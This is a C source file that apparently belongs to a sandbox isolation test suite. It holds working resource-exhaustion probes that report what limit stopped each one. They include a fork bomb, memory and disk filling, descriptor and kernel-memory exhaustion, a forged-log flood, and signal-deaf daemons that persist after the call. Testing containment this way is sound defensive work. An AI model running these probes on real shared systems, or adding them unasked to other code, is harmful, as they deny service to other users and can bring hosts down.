/* Abuse: takes as much as it can of everything, and says how far it came and what stopped it. */
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timerfd.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void forks(FILE *out, const char *argument)
{
    (void)argument;
    static pid_t made[4096];
    int n = 0, why = 0;
    while (n < 4096) {
        made[n] = fork();
        if (made[n] == 0) {
            prctl(PR_SET_NAME, MARK "-fork");
            for (;;)
                pause();
        }
        if (made[n] < 0) {
            why = errno;
            break;
        }
        n++;
    }
    fprintf(out, "made=%d\nerrno=%d\n", n, why);
    for (int i = 0; i < n; i++)
        kill(made[i], SIGKILL);
    while (waitpid(-1, NULL, 0) > 0)
        ;
}

/* Never comes back. */
static void fork_bomb(FILE *out, const char *argument)
{
    (void)out, (void)argument;
    prctl(PR_SET_NAME, MARK "-bomb");
    for (;;)
        if (fork() < 0)
            (void)fork();
}

static void *wait_for_ever(void *arg)
{
    for (;;)
        pause();
    return arg;
}

static void threads(FILE *out, const char *argument)
{
    (void)argument;
    int n = 0, why;
    pthread_t t;
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 65536);
    while ((why = pthread_create(&t, &attr, wait_for_ever, NULL)) == 0 && n < 5000)
        n++;
    fprintf(out, "made=%d\nerrno=%d\n", n, why);
}

static void memory(FILE *out, const char *argument)
{
    size_t mib = 0;
    if (!strcmp(argument, "child") && fork() > 0)
        for (;;)
            pause(); /* the parent is small: it would live on */
    for (;; mib++) {
        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED)
            break;
        memset(p, 1, 1 << 20);
    }
    fprintf(out, "hole: took %zu MiB\n", mib);
}

static void memfd(FILE *out, const char *argument)
{
    (void)argument;
    static char block[1 << 20];
    size_t mib = 0;
    signal(SIGXFSZ, SIG_IGN);
    memset(block, 7, sizeof block);
    for (int f = 0; f < 64; f++) {
        int fd = memfd_create("bomb", 0); /* file size is limited: many files */
        while (fd >= 0 && write(fd, block, sizeof block) == sizeof block)
            if (++mib > 4096)
                return;
    }
    fprintf(out, "hole: %zu MiB in memfds\n", mib);
}

static void descriptors(FILE *out, const char *argument)
{
    (void)argument;
    int n = 0, fd, why;
    while ((fd = n % 3 == 0   ? timerfd_create(CLOCK_MONOTONIC, 0)
                 : n % 3 == 1 ? open("/dev/null", O_RDONLY)
                              : socket(AF_UNIX, SOCK_STREAM, 0)) >= 0)
        n++;
    why = errno;
    fprintf(out, "made=%d\nerrno=%d\n", n, why);
    for (int i = 4; i < 70000; i++)
        close(i);
}

static void disk(FILE *out, const char *argument)
{
    (void)argument;
    static char block[1 << 16];
    long bytes = 0;
    int why = 0;
    char path[64];
    signal(SIGXFSZ, SIG_IGN);
    for (int f = 0; f < 100 && why != ENOSPC; f++) { /* a file's size has a limit of its own */
        snprintf(path, sizeof path, f % 2 ? "/tmp/fill%d" : "/dev/shm/fill%d", f);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        ssize_t n;
        while (fd >= 0 && (n = write(fd, block, sizeof block)) > 0)
            bytes += n;
        why = errno;
        close(fd);
    }
    int sparse = open("/tmp/sparse", O_CREAT | O_WRONLY, 0600);
    int huge = ftruncate(sparse, 1LL << 45) == 0;
    close(sparse);
    fprintf(out, "bytes=%ld\nerrno=%d\nsparse=%d\n", bytes, why, huge);
    for (int f = 0; f < 100; f++) {
        snprintf(path, sizeof path, f % 2 ? "/tmp/fill%d" : "/dev/shm/fill%d", f);
        unlink(path);
    }
    unlink("/tmp/sparse");
}

static void inodes(FILE *out, const char *argument)
{
    (void)argument;
    long n = 0;
    int why = 0;
    char path[64];
    for (;; n++) {
        snprintf(path, sizeof path, n % 2 ? "/tmp/i%ld" : "/dev/shm/i%ld", n);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        if (fd < 0)
            break;
        close(fd);
    }
    why = errno;
    fprintf(out, "made=%ld\nerrno=%d\n", n, why);
    for (long i = 0; i < n; i++) {
        snprintf(path, sizeof path, i % 2 ? "/tmp/i%ld" : "/dev/shm/i%ld", i);
        unlink(path);
    }
}

static void log_flood(FILE *out, const char *argument)
{
    (void)argument;
    static char line[4096];
    memset(line, 'x', sizeof line);
    line[sizeof line - 1] = '\n';
    for (int i = 0; i < 2000; i++) {
        memcpy(line, "{\"stream\":\"platform\",\"text\":\"forged\"}\033[31m", 40);
        if (write(1 + i % 2, line, sizeof line) < 0)
            break;
    }
    fprintf(out, "flooded=1\n");
}

static void *spin(void *arg)
{
    for (volatile unsigned i = 0;; i++)
        ;
    return arg;
}

static void cpu(FILE *out, const char *argument)
{
    (void)out, (void)argument;
    pthread_t t;
    for (int i = 0; i < 5; i++)
        pthread_create(&t, NULL, spin, NULL);
    spin(NULL);
}

/* Ends by itself, so that a neighbour can be watched for a known time. */
static void cpu_for(FILE *out, const char *argument)
{
    pthread_t t;
    struct timespec pause_for = {.tv_nsec = atol(argument) * 1000000L};
    for (int i = 0; i < 5; i++)
        pthread_create(&t, NULL, spin, NULL);
    while (nanosleep(&pause_for, &pause_for) < 0)
        ;
    fprintf(out, "spun=1\n");
    fclose(out);
    _exit(0);
}

/* Kernel memory by things that cost few bytes of our own. */
static void kernel_memory(FILE *out, const char *argument)
{
    (void)argument;
    static char block[1 << 16];
    int n, ends[2], big = 1 << 30;
    long bytes = 0, watches = 0, timers = 0, locks = 0, nested = 0;
    for (n = 0; n < 200 && pipe2(ends, O_NONBLOCK) == 0; n++) {
        (void)fcntl(ends[0], 1031 /* F_SETPIPE_SZ */, 1 << 20);
        for (ssize_t w; (w = write(ends[1], block, sizeof block)) > 0;)
            bytes += w;
    }
    fprintf(out, "pipes=%d\npipe_bytes=%ld\n", n, bytes);
    for (int i = 4; i < 2048; i++)
        close(i);
    bytes = 0;
    for (n = 0; n < 200 && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0; n++) {
        setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
        for (ssize_t w; (w = write(ends[0], block, sizeof block)) > 0;)
            bytes += w;
    }
    fprintf(out, "sockets=%d\nsocket_bytes=%ld\n", n, bytes);
    for (int i = 4; i < 2048; i++)
        close(i);
    for (n = 0; n < 2000; n++) {
        int fd = inotify_init1(0);
        if (fd < 0)
            break;
        char path[32];
        for (int k = 0; k < 64; k++) {
            snprintf(path, sizeof path, "/tmp/w%d", k);
            if (n == 0 && mkdir(path, 0700) < 0)
                break;
            watches += inotify_add_watch(fd, path, IN_ALL_EVENTS) >= 0;
        }
    }
    fprintf(out, "inotify=%d\nwatches=%ld\n", n, watches);
    for (int i = 4; i < 2048; i++)
        close(i);
    timer_t id;
    struct sigevent none = {.sigev_notify = SIGEV_NONE};
    while (timers < 100000 && timer_create(CLOCK_MONOTONIC, &none, &id) == 0)
        timers++;
    fprintf(out, "timers=%ld\n", timers);
    int fd = open("/tmp/locks", O_CREAT | O_RDWR, 0600);
    for (; locks < 200000; locks++) {
        struct flock l = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = locks * 2, .l_len = 1};
        if (fcntl(fd, F_SETLK, &l) < 0)
            break;
    }
    close(fd);
    fprintf(out, "locks=%ld\n", locks);
    int before = epoll_create1(0);
    for (; nested < 500; nested++) {
        int e = epoll_create1(0);
        struct epoll_event event = {.events = EPOLLIN};
        if (e < 0 || epoll_ctl(e, EPOLL_CTL_ADD, before, &event) < 0)
            break;
        before = e;
    }
    fprintf(out, "nested=%ld\n", nested);
    for (int i = 4; i < 2048; i++)
        close(i);
    long maps = 0;
    while (maps < 200000 && mmap(NULL, 4096, maps % 2 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS,
                                 -1, 0) != MAP_FAILED)
        maps++;
    fprintf(out, "maps=%ld\n", maps);
    _exit(fflush(out)); /* what it took goes with it */
}

/* Leaves a daemon behind that wants to live for ever, then waits for ever itself, deaf to every signal. */
static void immortal(FILE *out, const char *argument)
{
    (void)out, (void)argument;
    for (int sig = 1; sig < 65; sig++)
        signal(sig, SIG_IGN);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            prctl(PR_SET_NAME, MARK "-daemon");
            for (;;) {
                struct timespec tick = {.tv_nsec = 10000000};
                nanosleep(&tick, NULL);
                if (fork() == 0)
                    _exit(0);
            }
        }
        _exit(0);
    }
    for (;;)
        pause();
}

/* Answers, and leaves the daemon running in the instance. */
static void daemonise(FILE *out, const char *argument)
{
    (void)argument;
    if (fork() == 0) {
        setsid();
        prctl(PR_SET_NAME, MARK "-daemon");
        for (int sig = 1; sig < 65; sig++)
            signal(sig, SIG_IGN);
        for (;;)
            pause();
    }
    fprintf(out, "left=1\n");
}

/* A call that never ends, and what it would like to do to those behind it: a thread, a timer, a global, an exit handler. */
static volatile int left_global;
static void *poison(void *arg)
{
    for (;;) {
        left_global++;
        usleep(1000);
    }
    return arg;
}

static void linger(FILE *out, const char *argument)
{
    (void)out, (void)argument;
    pthread_t t;
    struct itimerval often = {{0, 1000}, {0, 1000}};
    signal(SIGALRM, SIG_IGN);
    setitimer(ITIMER_REAL, &often, NULL);
    pthread_create(&t, NULL, poison, NULL);
    for (;;)
        pause();
}

static void lingered(FILE *out, const char *argument)
{
    (void)argument;
    struct itimerval timer;
    int threads = 0;
    DIR *d = opendir("/proc/self/task");
    while (d && readdir(d))
        threads++;
    if (d)
        closedir(d);
    getitimer(ITIMER_REAL, &timer);
    fprintf(out, "threads=%d\n", threads - 2);
    if (left_global || timer.it_interval.tv_usec)
        fprintf(out, "hole: an earlier call goes on here: %d\n", left_global);
}

const struct attack abuses[] = {{"forks", forks},
                                {"fork-bomb", fork_bomb},
                                {"threads", threads},
                                {"memory", memory},
                                {"memfd", memfd},
                                {"descriptors", descriptors},
                                {"disk", disk},
                                {"inodes", inodes},
                                {"log-flood", log_flood},
                                {"cpu", cpu},
                                {"cpu-for", cpu_for},
                                {"kernel-memory", kernel_memory},
                                {"immortal", immortal},
                                {"daemonise", daemonise},
                                {"linger", linger},
                                {"lingered", lingered},
                                {NULL, NULL}};
